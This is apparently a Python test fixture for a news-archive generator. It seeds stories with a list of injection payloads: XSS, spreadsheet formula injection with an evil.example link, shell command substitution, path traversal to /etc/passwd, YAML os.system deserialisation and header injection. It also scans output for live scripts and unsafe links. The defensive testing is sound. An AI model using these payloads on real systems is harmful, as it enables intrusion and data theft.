"""Texts that try to be more than text, archives full of them, and readers that find whatever got through."""

from __future__ import annotations

import json
import re
from collections.abc import Iterable, Iterator
from html import unescape
from pathlib import Path
from urllib.parse import urlsplit
from xml.etree import ElementTree as ET

import html5lib

# What would run calls this; what is shown as text holds it.
MARK = "x55"
PAYLOADS = (
    f"<script>{MARK}(1)</script>",
    f'"><img src=x onerror={MARK}(2)>',
    f"'><svg/onload={MARK}(3)>",
    f"</script><script>{MARK}(4)</script>",
    f"</title></style></textarea><script>{MARK}(5)</script>",
    f"javascript:{MARK}(6)",
    f"data:text/html,<script>{MARK}(7)</script>",
    f"{{{{7*7}}}} {MARK} {{% raw %}} {{{{ view }}}}",
    f"]]><script xmlns='http://www.w3.org/1999/xhtml'>{MARK}(8)</script>",
    f"<!-- {MARK} --!><b onclick={MARK}(9)>",
    f"\u2028{MARK}(10)\u2029",
    f"\u202egnp.{MARK}\u2066exe\u2069",
    f"[klik](javascript:{MARK}(11)) ![x](data:image/svg+xml,{MARK}) <{MARK}:y>",
    f'=HYPERLINK("http://evil.example/?{MARK}","x")',
    f"+{MARK}|' /C calc'!A0",
    f"-2+3+cmd|' /C {MARK}'!D2",
    f"@SUM(1+1)*{MARK}",
    f"＝{MARK}+1",
    f"&lt;script&gt;{MARK}&#40;12&#41;&lt;/script&gt; &amp;quot; onfocus={MARK}",
    f"$(touch {MARK}) `touch {MARK}` ; touch {MARK}",
    f"../../../../{MARK}/../etc/passwd",
    f"..\\..\\{MARK}\\CON",
    f"}} note = {{{MARK}}}, url = {{javascript:{MARK}",
    f"%0d%0aSet-Cookie:{MARK}=1 \\r\\nER  - \\nTY  - {MARK}",
    f"!!python/object/apply:os.system [touch {MARK}] &a *a <<: {MARK}",
    f"{MARK}\ud800\ufffe\ufeff\u200b\u0000\u0007\u001b[31m".replace("\ud800", "\ufffd"),
)
HARMLESS = "Kabar"

STORY = """---
title: {word}
outlet: {word}
description: {word}
dateline: {word}
date: 2018-03-{day:02}
url: https://evil.example/?q={quoted}
authors: [{word}]
editors: [{word}]
people:
  - {{name: {word}, aliases: [{alias}], roles: [{word}]}}
organizations: [{word}]
places: [{word}]
products: [{word}]
events:
  - {{name: {word}, start: 2018-03-01, place: {word}, people: [{word}]}}
corrections: [{{date: 2018-04-01, text: {word}}}]
replies: [{{date: 2018-04-02, text: {word}, url: "https://evil.example/#{quoted}"}}]
captions: [{{text: {word}, credit: {word}}}]
---

{body}

"{body}," kata {body} di {body}, Senin (5/3/2018).
"""
SCRAPED = """{body}
Senin, 5 Maret 2018 10:46 WIB
Penulis: {body}

{body} - Pasar malam di {body} dibuka kembali, kata Budi {body}, kepala pasar.

"{body}," kata Ketua {body} Siti {body}, Senin (5/3/2018). Nilainya Rp 5 miliar {body}.

Baca juga: {body}
Foto: {body}
"""


def quote_yaml(text: str) -> str:
    """A YAML scalar that means exactly this text."""
    return json.dumps(text, ensure_ascii=True)


def write_archive(seeds: Path, words: Iterable[str]) -> None:
    """One story of each form for every word, which stands everywhere a word can stand."""
    seeds.mkdir(parents=True)
    rows = []
    for number, word in enumerate(words):
        quoted = "".join(f"%{byte:02X}" for byte in word.encode())
        body = " ".join(re.sub(r"[\x00-\x08\x1b]", "", word).split())  # a text file with these is no text
        story = STORY.format(
            word=quote_yaml(word), alias=quote_yaml(f"Tuan {word}"), quoted=quoted, body=body, day=number % 28 + 1
        )
        (seeds / f"{number:02}-given.md").write_text(story, encoding="utf-8")
        (seeds / f"{number:02}-scraped.txt").write_text(SCRAPED.format(body=body), encoding="utf-8")
        rows.append({"text": SCRAPED.format(body=word), "title": word, "outlet": word, "people": [word], "places": [word]})
    lines = [json.dumps(row) for row in rows]
    (seeds / "rows.jsonl").write_text("\n".join(lines) + "\n", encoding="utf-8")


# --- HTML ---------------------------------------------------------------------------------------------------------------

_LINKS = {"href", "src", "action", "formaction", "xlink:href", "poster", "data", "srcset", "cite", "background", "ping"}
_SCHEMES = {"", "http", "https"}
_NEVER = {"iframe", "object", "embed", "applet", "base", "frame", "portal", "form", "foreignObject", "animate", "set", "use"}
Shapes = set[tuple[str, str]]


def list_elements(page: str) -> list[ET.Element]:
    """Every element of a page, as a browser would see them."""
    tree = html5lib.parse(page, treebuilder="etree", namespaceHTMLElements=False)
    return [element for element in tree.iter() if isinstance(element.tag, str)]


def name_of(qualified: object) -> str:
    """A tag's or attribute's name without its namespace."""
    return str(qualified).rpartition("}")[2]


def list_shapes(page: str) -> Shapes:
    """Which attributes stand on which elements."""
    found: Shapes = set()
    for element in list_elements(page):
        found.add((name_of(element.tag), ""))
        found.update((name_of(element.tag), name_of(attribute)) for attribute in element.attrib)
    return found


def list_template_shapes(folder: Path) -> Shapes:
    """What the templates themselves write, whatever they are given."""
    found: Shapes = set()
    for path in folder.glob("*.html"):
        text = re.sub(r"\{%.*?%\}|\{\{.*?\}\}|\{#.*?#\}", " ", path.read_text(encoding="utf-8"), flags=re.DOTALL)
        for tag, rest in re.findall(r"<([a-z][a-z0-9]*)([^<>]*)", text):
            found |= {(tag, ""), *((tag, name) for name in re.findall(r"([A-Za-z:-]+)(?==|\s|$)", rest))}
    return found


def find_live_parts(page: str) -> Iterator[str]:
    """Whatever could run, load or lead elsewhere than a plain link does."""
    for element in list_elements(page):
        tag = name_of(element.tag)
        if tag in _NEVER - {"form", "use"}:
            yield f"<{tag}>"
        for attribute, value in element.attrib.items():
            name = name_of(attribute).lower()
            if name.startswith("on") or name in {"srcdoc", "style"}:
                yield f"<{tag} {name}={value!r}>"
            if name in _LINKS and (fault := find_link_fault(value)):
                yield f"<{tag} {name}>: {fault}"
        if tag == "script":
            yield from _find_script_faults(element)
        if tag == "meta" and element.get("http-equiv", "").lower() == "refresh":
            address = unescape(element.get("content", "")).partition("url=")[2]
            if urlsplit(address).scheme or address.startswith("//"):
                yield f"refresh to {address}"


def find_link_fault(value: str) -> str | None:
    """Why a link is none that a page of an archive has."""
    plain = re.sub(r"[\x00-\x20]", "", unescape(value))
    try:
        parts = urlsplit(plain)
    except ValueError as error:
        return f"{value!r} ({error})"
    if plain == "data:,":  # no picture at all, said so
        return None
    if parts.scheme.lower() not in _SCHEMES or plain.startswith(("//", "\\")):
        return repr(value)
    return None


def _find_script_faults(element: ET.Element) -> Iterator[str]:
    kind, source = element.get("type", ""), element.get("src")
    if kind in {"application/ld+json", "application/json"}:
        text = element.text or ""
        json.loads(text)
        if re.search("[<>&]", text):
            yield f"data with a sign that could end them: {text[:200]}"
    elif source is None or urlsplit(source).netloc or element.text:
        yield f"<script src={source!r}>{(element.text or '')[:80]}"


def find_xml_faults(data: bytes) -> Iterator[str]:
    """Scripts, handlers, outside links in a feed, sitemap or picture; raises where it is not well-formed."""
    for element in ET.fromstring(data).iter():
        tag = name_of(element.tag)
        if tag in {"script", "foreignObject", "iframe"}:
            yield f"<{tag}>"
        yield from (f"<{tag} {key}>" for key in element.attrib if name_of(key).lower().startswith("on"))
        links = [element.get("href")] if element.get("href") else []
        yield from (fault for link in links if (fault := _find_feed_link_fault(link)))
        if tag in {"content", "summary", "title"} and element.get("type") == "html":
            yield from find_live_parts(element.text or "")


def _find_feed_link_fault(link: str) -> str | None:
    scheme = urlsplit(re.sub(r"[\x00-\x20]", "", link)).scheme.lower()
    return None if scheme in _SCHEMES | {"tag"} else f"link to {link!r}"
